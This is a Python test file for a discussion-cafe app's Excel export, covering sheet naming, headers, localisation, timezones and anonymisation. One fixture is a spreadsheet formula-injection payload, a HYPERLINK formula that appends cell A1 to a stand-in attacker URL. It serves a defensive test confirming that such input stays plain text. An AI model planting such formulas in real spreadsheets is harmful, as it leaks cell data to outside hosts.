"""The Excel workbook: opened again with openpyxl, the way a spreadsheet program reads it."""

from __future__ import annotations

import gettext
import io
from dataclasses import replace
from datetime import datetime
from pathlib import Path

from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from dialogcafe.domain.summaries import RoundSection, SessionSummary, TableSummary
from dialogcafe.exports.files import FORMATS, LIVE_FORMATS, MEDIA_TYPES, XLSX_MEDIA_TYPE, render
from dialogcafe.exports.spreadsheet import MAX_SHEET_NAME, render_xlsx, sheet_name
from tests.unit.summary_data import session_summary, summary_post

TRANSLATIONS = Path(__file__).resolve().parents[2] / "dialogcafe" / "translations"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klikk her")'
LONG_TOPIC = "Hva trenger unge [18–25 år] i sin første bolig: trygghet/fellesskap?"


def spreadsheet_summary() -> SessionSummary:
    """Two tables and two rounds; four inputs, one hostile, one on someone's behalf."""
    table1 = TableSummary(
        table=1,
        rounds=(
            RoundSection(
                round=1,
                topic="Trygg bolig",
                posts=(
                    summary_post(1, "Mer tid til hver beboer", nickname="Kari", likes=3, dots=5),
                    summary_post(2, HOSTILE, nickname="Ola"),
                ),
            ),
            RoundSection(round=2, topic=LONG_TOPIC, posts=(summary_post(3, "Spør oss først"),)),
        ),
    )
    table2 = TableSummary(
        table=2,
        rounds=(
            RoundSection(
                round=1,
                topic=LONG_TOPIC,
                posts=(summary_post(4, "+47 er nummeret", on_behalf=True, on_behalf_name="Åse"),),
            ),
            RoundSection(round=2, topic="Trygg bolig", posts=()),
        ),
    )
    return session_summary((table1, table2), topics=("Trygg bolig", LONG_TOPIC, "Medvirkning"))


def _open(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def _norwegian(message: str) -> str:
    """The app's own Norwegian catalog, as the server translates with it."""
    catalog = gettext.translation("messages", localedir=TRANSLATIONS, languages=["nb"])
    return catalog.gettext(message)


def test_one_sheet_of_every_input_then_one_per_question() -> None:
    workbook = _open(render_xlsx(spreadsheet_summary()))
    assert workbook.sheetnames[0] == "All inputs"
    assert len(workbook.sheetnames) == 4  # every question, also one nobody answered
    assert workbook.sheetnames[1] == "1. Trygg bolig"
    assert workbook.sheetnames[3] == "3. Medvirkning"
    long_name = workbook.sheetnames[2]
    assert len(long_name) <= MAX_SHEET_NAME and long_name.startswith("2. Hva trenger unge")
    assert not set("[]:*?/\\") & set("".join(workbook.sheetnames))


def test_one_row_per_input_with_numbers_as_numbers() -> None:
    sheet = _open(render_xlsx(spreadsheet_summary()))["All inputs"]
    header = [cell.value for cell in sheet[1]]
    assert header == [
        "Question",
        "Table",
        "Round",
        "Input",
        "Likes",
        "Dots",
        "Author",
        "On behalf of",
        "Time (UTC)",
    ]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == 4
    assert rows[0][:7] == ["Trygg bolig", 1, 1, "Mer tid til hver beboer", 3, 5, "Kari"]
    assert rows[0][8] == datetime(2026, 11, 24, 12, 1)
    assert rows[3][3:] == ["+47 er nummeret", 0, 0, None, "Åse", datetime(2026, 11, 24, 12, 4)]
    by_question = _open(render_xlsx(spreadsheet_summary()))
    assert by_question.worksheets[1].max_row == 1 + 2  # "Trygg bolig": two inputs
    assert by_question.worksheets[2].max_row == 1 + 2  # the long question, at both tables
    assert by_question.worksheets[3].max_row == 1  # the header alone


def test_a_hostile_input_stays_text() -> None:
    workbook = _open(render_xlsx(spreadsheet_summary()))
    for sheet in (workbook["All inputs"], workbook.worksheets[1]):
        cell = sheet.cell(row=3, column=4)
        assert cell.value == HOSTILE
        assert cell.data_type == "s" and cell.quotePrefix
    with io.BytesIO(render_xlsx(spreadsheet_summary())) as raw:
        assert b"<f>" not in raw.getvalue()  # no formula anywhere in the package


def test_header_row_is_bold_frozen_and_filtered_with_set_widths() -> None:
    for sheet in _open(render_xlsx(spreadsheet_summary())).worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A1:I")
        assert all(cell.font.bold for cell in sheet[1])
        widths = {c: sheet.column_dimensions[c].width for c in "ABCDEFGHI"}
        assert widths["D"] >= 60 and widths["A"] >= 30  # the texts: wide, wrapped
        assert widths["B"] <= 10 and widths["E"] <= 10  # the numbers: narrow
    first = _open(render_xlsx(spreadsheet_summary()))["All inputs"]
    assert first["D2"].alignment.wrap_text
    assert first["I2"].number_format == "yyyy-mm-dd hh:mm"


def test_headers_and_sheet_name_follow_the_language() -> None:
    workbook = _open(render_xlsx(spreadsheet_summary(), _norwegian, language="nb"))
    assert workbook.sheetnames[0] == "Alle innspill"
    header = [cell.value for cell in workbook["Alle innspill"][1]]
    assert header[:6] == ["Spørsmål", "Bord", "Runde", "Innspill", "Likerklikk", "Prikker"]
    assert workbook.properties.language == "nb"


def test_times_are_on_the_organisers_clock() -> None:
    summary = replace(spreadsheet_summary(), timezone="Europe/Oslo")
    sheet = _open(render_xlsx(summary))["All inputs"]
    assert sheet["I1"].value == "Time (Europe/Oslo)"
    assert sheet["I2"].value == datetime(2026, 11, 24, 13, 1)  # UTC+1 in November


def test_a_late_column_only_when_an_input_came_late() -> None:
    summary = spreadsheet_summary()
    table1 = summary.tables[0]
    late_post = replace(table1.rounds[1].posts[0], late=True)
    rounds = (table1.rounds[0], replace(table1.rounds[1], posts=(late_post,)))
    late = replace(summary, tables=(replace(table1, rounds=rounds), summary.tables[1]))
    sheet = _open(render_xlsx(late))["All inputs"]
    header = [cell.value for cell in sheet[1]]
    assert header[8:] == ["Late", "Time (UTC)"]
    assert [row[8].value for row in sheet.iter_rows(min_row=2)] == [None, None, "yes", None]


def test_no_author_column_when_no_input_has_a_name() -> None:
    anonymous = replace(
        spreadsheet_summary(),
        tables=tuple(
            replace(
                table,
                rounds=tuple(
                    replace(
                        section,
                        posts=tuple(
                            replace(post, nickname="", on_behalf_name="") for post in section.posts
                        ),
                    )
                    for section in table.rounds
                ),
            )
            for table in spreadsheet_summary().tables
        ),
    )
    sheet = _open(render_xlsx(anonymous))["All inputs"]
    header = [cell.value for cell in sheet[1]]
    assert "Author" not in header and "Kari" not in str(list(sheet.values))
    assert sheet.cell(row=5, column=header.index("On behalf of") + 1).value == (
        "someone without a phone"
    )


def test_an_empty_session_gives_header_rows_only() -> None:
    empty = session_summary(
        (TableSummary(table=1, rounds=()),), rounds_held=0, topics=("Trygg bolig",)
    )
    workbook = _open(render_xlsx(empty))
    assert workbook.sheetnames == ["All inputs", "1. Trygg bolig"]
    assert workbook["All inputs"].max_row == 1


def test_sheet_names_are_valid_and_unique() -> None:
    taken: set[str] = set()
    first = sheet_name("'Hva: [nå]/*?\\'", taken)
    assert first == "Hva nå"
    assert sheet_name("hva   NÅ", taken) == "hva NÅ (2)"
    long = "x" * 40
    assert sheet_name(long, taken) == "x" * MAX_SHEET_NAME
    assert sheet_name(long, taken) == "x" * (MAX_SHEET_NAME - 4) + " (2)"
    assert sheet_name("", taken) == "-"


def test_xlsx_is_a_report_format_not_a_live_one() -> None:
    assert "xlsx" in FORMATS and "xlsx" not in LIVE_FORMATS
    assert MEDIA_TYPES["xlsx"] == XLSX_MEDIA_TYPE
    exported = render(spreadsheet_summary(), "xlsx")
    assert exported.name == "dialogkafe-ABC234.xlsx"
    assert exported.content.startswith(b"PK")
